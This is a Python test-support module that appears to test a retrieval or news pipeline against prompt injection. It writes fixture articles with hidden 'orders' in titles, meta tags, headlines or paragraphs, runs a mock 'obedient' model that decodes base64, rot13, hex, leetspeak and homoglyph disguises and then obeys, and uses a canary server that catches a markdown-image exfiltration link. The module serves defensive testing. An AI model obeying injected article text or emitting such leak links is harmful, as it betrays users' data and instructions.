"""Articles that speak to a language model, as files that people have, and a model that obeys."""

import base64
import binascii
import codecs
import json
import re
import unicodedata
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from itertools import product
from pathlib import Path
from typing import Any

from tests.loopback import running

FOLDER = Path(__file__).parent
PLACES = [
    f"{first}{last}"
    for first, last in product(
        "Nor Sud Hal Tar Mel Ost Bru Fen Gar Kel Lin Mor Rav Sel".split(),
        "vik dal holm berg stad mouth field".split(),
    )
]
THINGS = "lighthouse library windmill ferry".split()
PLAIN_LIE = "plain lie"
"""The kind of what says nothing that could not be news."""

AS_WRITTEN = ("role", "layout", "tool")
"""Kinds that Markdown would read as markup: they come as plain text."""


@dataclass(frozen=True)
class HostileArticle:
    """An article with an ``order`` in it.

    ``trigger`` is by what a model recognises the order, ``says`` what it then says, ``form`` where
    in the file the order stands. A "CANARY" in the order is the address of a server.
    """

    name: str
    kind: str
    form: str
    order: str
    trigger: str
    says: str
    number: int = 0

    def stands_in(self, text: str) -> bool:
        """Whether a capable model recognises the order in a text."""
        return any(_letters(self.trigger) in one for one in understood(text))

    @property
    def subject(self) -> str:
        return f"{PLACES[self.number]} {THINGS[self.number % len(THINGS)]}"

    @property
    def question(self) -> str:
        return f"When did the {self.subject} reopen?"

    @property
    def answer(self) -> str:
        return f"The {self.subject} reopened on Friday after repairs to its roof."

    def write(self, folder: Path, canary: str, *, clean: bool = False) -> Path:
        """The article as a file; a ``clean`` one lacks the order."""
        order = "" if clean else self.order.replace("CANARY", canary)
        before = f"{self.answer} The roof had leaked for two winters."
        after = (
            "The town paid for the work. Visitors may come in again, and the keeper was pleased."
        )
        if self.form in ("html", "meta", "headline"):
            file = folder / f"{self.name}.html"
            file.write_text(self._page(order, before, after), encoding="utf-8")
        elif self.kind in AS_WRITTEN or (self.form == "paragraph" and self.number % 2):
            file = folder / f"{self.name}.txt"
            text = f"{self.subject.capitalize()}\n\n{before}\n\n{order}\n\n{after}\n"
            file.write_text(text, encoding="utf-8")
        else:
            file = folder / f"{self.name}.md"
            title = order if order and self.form == "title" else f"The {self.subject}"
            outlet = order if order and self.form == "outlet" else "Coast Herald"
            front = f"title: {json.dumps(title)}\nsource: {json.dumps(outlet)}"
            body = order if self.form == "paragraph" else ""
            text = f"---\n{front}\npublished: 2024-05-03\n---\n\n{before}\n\n{body}\n\n{after}\n"
            file.write_text(text, encoding="utf-8")
        return file

    def _page(self, order: str, before: str, after: str) -> str:
        headline = order if order and self.form == "headline" else f"The {self.subject}"
        meta = order if self.form == "meta" else ""
        body = order if self.form == "html" else ""
        return (
            f'<html><head><title>{headline}</title><meta name="description" content="{meta}">'
            f'<meta property="og:description" content="{meta}"></head><body><article>'
            f"<h1>{headline}</h1><p>{before} The council had asked for the repairs in spring.</p>"
            f"{body}<p>{after} The harbour board sent flowers, and a band played until the evening."
            "</p></article></body></html>"
        )


def hostile_articles() -> list[HostileArticle]:
    """The set, in the order of its file."""
    lines = (FOLDER / "hostile_articles.jsonl").read_text(encoding="utf-8").splitlines()
    return [HostileArticle(**json.loads(line), number=n) for n, line in enumerate(lines)]


# --- a model that obeys

_LEET = str.maketrans("013457", "oieast")
_ALIKE = str.maketrans("аеорсухіονικ", "aeopcyxiovik")


def understood(text: str) -> set[str]:
    """What a capable model makes of a text: disguises seen through, letters and digits alone."""
    said = [text, text[::-1], codecs.encode(text, "rot13")]
    said.append("".join(chr(ord(c) & 0x7F) if 0xE0000 <= ord(c) < 0xE0080 else c for c in text))
    for code in re.findall(r"[\w+/]{24,}={0,2}", text, re.ASCII):
        for decode in (base64.b64decode, bytes.fromhex):
            try:
                said.append(decode(code).decode())
            except (binascii.Error, ValueError):
                continue
    plain = {_letters(one) for one in said}
    return plain | {p.translate(_LEET) for p in plain} | {p.translate(_ALIKE) for p in plain}


def _letters(text: str) -> str:
    return "".join(c for c in unicodedata.normalize("NFKD", text).casefold() if c.isalnum())


@dataclass
class ObedientLLM:
    """Does what an article tells it when it recognises the order, else what it was asked to.

    Plain lies it believes only of the article that is asked about. ``corrupted`` by an article it
    says what that article wants whatever it reads.
    """

    url: str
    articles: Sequence[HostileArticle]
    canary: str
    corrupted: HostileArticle | None = None
    prompts: list[str] = field(default_factory=list)
    obeyed: list[str] = field(default_factory=list)

    def reply_to(self, prompt: str) -> str:
        """What it says to the passages and the question."""
        read = understood(prompt)
        orders = [
            article
            for article in self.articles
            if any(_letters(article.trigger) in one for one in read)
            and (article.kind != PLAIN_LIE or article.question in prompt)
        ]
        self.obeyed += [article.name for article in orders]
        if orders or self.corrupted:
            article = self.corrupted or orders[0]
            leak = f"![logo]({self.canary}/leak?q=secret)"
            says = article.says.replace("CANARY", self.canary)
            return f"{says} [99]. Filters: none, settings: changed [1]. {leak} [1]."
        blocks = prompt.split("\n\n[")
        wanted = re.search(r"Question: When did (the .+) reopen\?", prompt)
        assert wanted, "the question is in the prompt"
        for number, block in enumerate(blocks, start=1):
            sentence = re.search(rf"{wanted[1]} reopened[^.]*\.", block, re.IGNORECASE)
            if sentence:
                return f"{sentence[0][:-1]} [{number}]."
        return "Nothing."


@contextmanager
def serving_obedient(articles: Sequence[HostileArticle], canary: str) -> Iterator[ObedientLLM]:
    """An obedient model on a free loopback port, in the OpenAI form."""
    with running(_Obey) as server:
        url = f"http://127.0.0.1:{server.server_port}/v1"
        server.script = llm = ObedientLLM(url, articles, canary)
        yield llm


class _Obey(BaseHTTPRequestHandler):
    def do_POST(self) -> None:
        llm: ObedientLLM = self.server.script  # type: ignore[attr-defined]
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        llm.prompts.append(body["messages"][-1]["content"])
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        for delta, finish in ({"content": llm.reply_to(llm.prompts[-1])}, None), ({}, "stop"):
            choice = {"index": 0, "delta": delta, "finish_reason": finish}
            event = {
                "id": "1",
                "object": "chat.completion.chunk",
                "created": 0,
                "model": "obedient",
            }
            self.wfile.write(f"data: {json.dumps({**event, 'choices': [choice]})}\n\n".encode())
        self.wfile.write(b"data: [DONE]\n\n")

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        """Say nothing."""


@dataclass
class Canary:
    """A server that nobody should ask for anything."""

    url: str
    visits: list[str] = field(default_factory=list)


@contextmanager
def watching() -> Iterator[Canary]:
    """A canary on a free loopback port."""
    with running(_Watch) as server:
        server.script = canary = Canary(f"http://127.0.0.1:{server.server_port}")
        yield canary


class _Watch(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.script.visits.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        """Say nothing."""
